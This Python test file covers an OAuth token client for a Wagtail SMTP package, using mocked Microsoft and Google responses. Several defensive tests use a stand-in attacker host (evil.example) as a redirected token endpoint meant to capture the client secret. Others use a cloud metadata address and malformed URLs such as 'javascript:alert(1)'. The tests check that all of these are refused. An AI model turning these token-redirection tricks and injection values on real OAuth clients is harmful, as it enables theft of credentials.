"""The requests to Microsoft and Google, with their responses mocked."""

import base64
import json
import socket
import sys
import threading
import time
from urllib.parse import parse_qs, urlsplit

import pytest
import requests
import responses
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from tests.support.servers.identity_provider import IdentityProvider
from tests.support.servers.smtp_server import CA_PEM, server_context
from wagtail_smtp.config import oauth
from wagtail_smtp.config.oauth import OAuth
from wagtail_smtp.exceptions import DestinationRefused, TokenRefused
from wagtail_smtp.transports.oauth import client as http
from wagtail_smtp.transports.oauth import client as oauth_client
from wagtail_smtp.transports.oauth.client import Client

LOGIN = "https://login.microsoftonline.com/contoso.example"
ANSWER = {"access_token": "an access token", "token_type": "Bearer", "expires_in": 3599}
CANARY = "c4nary-of-the-client"


@pytest.fixture
def wire():
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mocked:
        yield mocked


def microsoft(flow):
    settings = OAuth("microsoft", flow, tenant="contoso.example", client_id="c-1")
    return Client("Office", settings, "box@contoso.example", CANARY)


def form(wire):
    body = wire.calls[-1].request.body
    text = body.decode() if isinstance(body, bytes) else body
    return {k: v[0] for k, v in parse_qs(text).items()}


def test_microsoft_as_the_site_itself(wire):
    wire.post(f"{LOGIN}/oauth2/v2.0/token", json=ANSWER)
    token = oauth_client.request_token(microsoft("client"))
    assert token.access == "an access token"
    assert token.expires_at - token.obtained_at == 3599
    sent = form(wire)
    assert sent["grant_type"] == "client_credentials"
    assert sent["scope"] == "https://outlook.office365.com/.default"
    assert sent["client_secret"] == CANARY
    assert {urlsplit(call.request.url).hostname for call in wire.calls} == {
        "login.microsoftonline.com"
    }


def test_microsoft_by_consent(wire):
    wire.post(f"{LOGIN}/oauth2/v2.0/token", json=ANSWER | {"refresh_token": "r-1"})
    client = microsoft("consent")
    asked = oauth_client.start_consent(client, "https://site.example/back", "the state")
    query = parse_qs(urlsplit(asked.url).query)
    assert asked.url.startswith(f"{LOGIN}/oauth2/v2.0/authorize?")
    assert query["code_challenge_method"] == ["S256"]
    assert query["state"] == ["the state"]
    assert {"https://outlook.office.com/SMTP.Send", "offline_access"} <= set(
        query["scope"][0].split()
    )
    # What is kept goes through JSON, as it does in a session.
    pending = json.loads(json.dumps(asked.pending))
    token = oauth_client.finish_consent(client, pending, {"code": "a code", "state": "the state"})
    assert token.refresh == "r-1"
    assert form(wire)["code_verifier"]
    token = oauth_client.request_token(client, "r-1")
    assert form(wire)["grant_type"] == "refresh_token"
    assert token.refresh == "r-1"


@pytest.mark.parametrize(
    ("error", "description", "reason"),
    [
        ("invalid_client", "AADSTS7000222: The provided client secret keys for app 'c-1' are "
         "expired.", "secret-expired"),
        ("invalid_client", "AADSTS7000215: Invalid client secret provided.", "client-refused"),
        ("unauthorized_client", "AADSTS700016: Application with identifier 'c-1' was not found.",
         "client-refused"),
        ("invalid_grant", "AADSTS700082: The refresh token has expired due to inactivity.",
         "consent-ended"),
        ("invalid_grant", "AADSTS65001: The user or administrator has not consented to use the "
         "application.", "consent-needed"),
        ("access_denied", "AADSTS90094: An administrator of Contoso has set a policy.",
         "admin-consent-needed"),
        ("temporarily_unavailable", "AADSTS90033: A transient error has occurred.", "unreachable"),
        ("something_new", "AADSTS1: ?", "refused"),
    ],
)  # fmt: skip
def test_microsofts_refusals(wire, error, description, reason):
    wire.post(
        f"{LOGIN}/oauth2/v2.0/token",
        status=400,
        json={"error": error, "error_description": f"{description}\r\n{CANARY}"},
    )
    with pytest.raises(TokenRefused) as caught:
        oauth_client.request_token(microsoft("consent"), "r-1")
    assert caught.value.reason == reason
    assert description[:15] in caught.value.reply
    assert CANARY not in str(caught.value) + caught.value.reply
    assert "\n" not in caught.value.reply
    assert caught.value.__cause__ is None
    assert caught.value.__suppress_context__


def test_a_tenant_that_does_not_exist(wire):
    wire.post(
        "https://login.microsoftonline.com/nobody/oauth2/v2.0/token",
        status=400,
        json={
            "error": "invalid_request",
            "error_description": "AADSTS90002: Tenant 'nobody' not found.",
        },
    )
    settings = OAuth("microsoft", "client", tenant="nobody", client_id="c-1")
    with pytest.raises(TokenRefused) as caught:
        oauth_client.request_token(Client("Office", settings, "box@contoso.example", CANARY))
    assert caught.value.reason == "client-refused"


def test_microsofts_directory_is_not_asked(wire):
    """It could name another host for tokens."""
    directory = wire.get(
        f"{LOGIN}/v2.0/.well-known/openid-configuration",
        json={"issuer": LOGIN, "token_endpoint": "https://evil.example/t/token"},
    )
    stolen = wire.post("https://evil.example/t/token", json=ANSWER)
    wire.post(f"{LOGIN}/oauth2/v2.0/token", json=ANSWER)
    oauth_client.request_token(microsoft("client"))
    assert (directory.call_count, stolen.call_count) == (0, 0)


def test_a_client_secret_does_not_go_to_another_host():
    with (
        oauth_client.Session("https://login.microsoftonline.com/t") as session,
        pytest.raises(DestinationRefused),
    ):
        session.post("https://evil.example/t/token", data={"client_secret": CANARY})


@pytest.fixture(scope="module")
def service_account():
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    return json.dumps(
        {
            "type": "service_account",
            "project_id": "p",
            "private_key_id": "k",
            "private_key": pem.decode(),
            "client_email": "mailer@p.iam.gserviceaccount.com",
            "client_id": "1",
            "token_uri": "https://oauth2.googleapis.com/token",
        }
    )


def google(secret, flow="service_account"):
    return Client("Google", OAuth("google", flow, client_id="g-1"), "box@example.com", secret)


def test_google_by_service_account(wire, service_account):
    wire.post(oauth.GOOGLE_TOKEN_URL, json=ANSWER)
    token = oauth_client.request_token(google(service_account))
    assert token.access == "an access token"
    assert 3500 < token.expires_at - token.obtained_at < 3610
    assertion = form(wire)["assertion"].split(".")[1]
    claims = json.loads(base64.urlsafe_b64decode(assertion + "=="))
    assert claims["sub"] == "box@example.com"
    assert claims["scope"] == "https://mail.google.com/"
    assert claims["iss"] == "mailer@p.iam.gserviceaccount.com"


def test_a_key_file_cant_name_another_token_url(wire, service_account):
    wire.post(oauth.GOOGLE_TOKEN_URL, json=ANSWER)
    stolen = wire.post("https://evil.example/token", json=ANSWER)
    key = json.loads(service_account) | {"token_uri": "https://evil.example/token"}
    assert oauth_client.request_token(google(json.dumps(key))).access == "an access token"
    assert stolen.call_count == 0


@pytest.mark.parametrize(
    ("error", "description", "reason"),
    [
        ("unauthorized_client", "Client is unauthorized to retrieve access tokens using this "
         "method, or client not authorized for any of the scopes requested.", "not-delegated"),
        ("invalid_grant", "Invalid email or User ID", "mailbox-unknown"),
        ("invalid_grant", "Invalid JWT Signature.", "consent-ended"),
        ("invalid_client", "The OAuth client was not found.", "client-refused"),
    ],
)  # fmt: skip
def test_googles_refusals(wire, service_account, error, description, reason):
    wire.post(
        oauth.GOOGLE_TOKEN_URL,
        status=400,
        json={"error": error, "error_description": description},
    )
    with pytest.raises(TokenRefused) as caught:
        oauth_client.request_token(google(service_account))
    assert caught.value.reason == reason
    assert description[:15] in caught.value.reply


def test_google_by_consent(wire):
    wire.post(oauth.GOOGLE_TOKEN_URL, json=ANSWER | {"refresh_token": "r-1"})
    client = google(CANARY, "consent")
    asked = oauth_client.start_consent(client, "https://site.example/back", "the state")
    query = parse_qs(urlsplit(asked.url).query)
    assert asked.url.startswith("https://accounts.google.com/o/oauth2/v2/auth?")
    assert query["access_type"] == ["offline"]
    assert query["prompt"] == ["consent"]
    assert query["code_challenge_method"] == ["S256"]
    assert query["scope"] == ["https://mail.google.com/"]
    assert query["login_hint"] == ["box@example.com"]
    assert CANARY not in asked.url
    assert asked.pending["code_verifier"] not in asked.url
    assert oauth_client.finish_consent(client, asked.pending, {"code": "a code"}).refresh == "r-1"
    assert form(wire)["code_verifier"] == asked.pending["code_verifier"]


def test_a_consent_that_doesnt_last_is_none(wire):
    wire.post(oauth.GOOGLE_TOKEN_URL, json=ANSWER)
    client = google(CANARY, "consent")
    asked = oauth_client.start_consent(client, "https://site.example/back", "the state")
    with pytest.raises(TokenRefused, match="offline_access"):
        oauth_client.finish_consent(client, asked.pending, {"code": "a code"})


def test_a_missing_extra_says_what_to_install(monkeypatch):
    # Whether Authlib was imported before depends on the tests that ran before this one.
    for name in ["authlib", *(name for name in sys.modules if name.startswith("authlib."))]:
        monkeypatch.setitem(sys.modules, name, None)
    with pytest.raises(TokenRefused, match=r"wagtail-smtp\[oauth\]"):
        oauth_client.request_token(microsoft("client"))


def test_without_the_extra_a_set_is_refused(monkeypatch):
    settings = microsoft("client").settings.as_dict()
    assert list(oauth.problems(settings)) == []
    monkeypatch.setattr("importlib.util.find_spec", lambda name: None)
    [problem] = oauth.problems(settings)
    assert (problem.field, "wagtail-smtp[oauth]" in str(problem)) == ("authentication", True)


# The session, on a real wire


def test_tls_is_verified():
    with IdentityProvider(tls=server_context()) as provider:
        with http.Session(provider.url, CA_PEM) as session:
            assert session.get(provider.url).status_code == 200
        with http.Session(provider.url) as session, pytest.raises(requests.exceptions.SSLError):
            session.get(provider.url)


def test_plain_http_goes_to_this_machine_alone():
    with (
        http.Session("http://login.example.com/token") as session,
        pytest.raises(DestinationRefused),
    ):
        session.post("http://login.example.com/token")


@pytest.mark.parametrize("address", ["169.254.169.254", "10.0.0.1", "127.0.0.1"])
def test_internal_addresses_are_guarded(settings, address):
    settings.WAGTAIL_SMTP = settings.WAGTAIL_SMTP | {"ALLOWED_NETWORKS": []}
    url = f"https://{address}/token"
    with http.Session(url) as session, pytest.raises(DestinationRefused):
        session.post(url)


def test_the_environment_doesnt_count(monkeypatch):
    with IdentityProvider() as provider:
        for name in ("HTTP_PROXY", "http_proxy", "ALL_PROXY"):
            monkeypatch.setenv(name, "http://127.0.0.1:9")
        with http.Session(provider.url) as session:
            assert session.get(provider.url).status_code == 200


def test_who_trickles_is_cut_off(monkeypatch):
    monkeypatch.setattr(http, "LONGEST", 0.6)
    listener = socket.create_server(("127.0.0.1", 0))
    end = threading.Event()

    def trickle():
        sock, _address = listener.accept()
        with sock:
            sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n")
            try:
                while not end.wait(0.05):
                    sock.sendall(b"x")
            except OSError:
                pass

    thread = threading.Thread(target=trickle)
    thread.start()
    url = f"http://127.0.0.1:{listener.getsockname()[1]}/"
    began = time.monotonic()
    with http.Session(url) as session, pytest.raises(requests.RequestException):
        session.get(url)
    assert time.monotonic() - began < 4
    end.set()
    thread.join(5)
    listener.close()


# The rules of the settings


@pytest.mark.parametrize(
    ("values", "field"),
    [
        ({"provider": "microsoft", "flow": "service_account"}, "oauth_flow"),
        ({"provider": "nobody", "flow": "client"}, "oauth_flow"),
        ({"provider": "microsoft", "flow": "client", "tenant": "a/b"}, "oauth_tenant"),
        ({"provider": "microsoft", "flow": "client", "tenant": "common"}, "oauth_tenant"),
        ({"provider": "microsoft", "flow": "client", "tenant": "a..b"}, "oauth_tenant"),
        ({"provider": "microsoft", "flow": "client", "cloud": "mars"}, "oauth_cloud"),
        ({"provider": "google", "flow": "consent", "client_id": "a b"}, "oauth_client_id"),
        ({"provider": "other", "flow": "client", "token_url": "http://login.example.com/"},
         "oauth_token_url"),
        ({"provider": "other", "flow": "client", "token_url": "https://a:b@login.example.com/"},
         "oauth_token_url"),
        ({"provider": "other", "flow": "client", "token_url": "https://login.example.com\\@evil"},
         "oauth_token_url"),
        ({"provider": "other", "flow": "consent", "authorize_url": "javascript:alert(1)"},
         "oauth_authorize_url"),
        ({"provider": "other", "flow": "consent", "authorize_url": "https://login.example/#x"},
         "oauth_authorize_url"),
        ({"provider": "other", "flow": "client", "scope": "a  b"}, "oauth_scope"),
    ],
)  # fmt: skip
def test_what_settings_must_be(values, field):
    right = {
        "client_id": "c",
        "tenant": "contoso.example",
        "token_url": "https://login.example.com/token",
        "authorize_url": "http://localhost:8000/authorize",
    }
    assert [problem.field for problem in oauth.problems(right | values)] == [field]
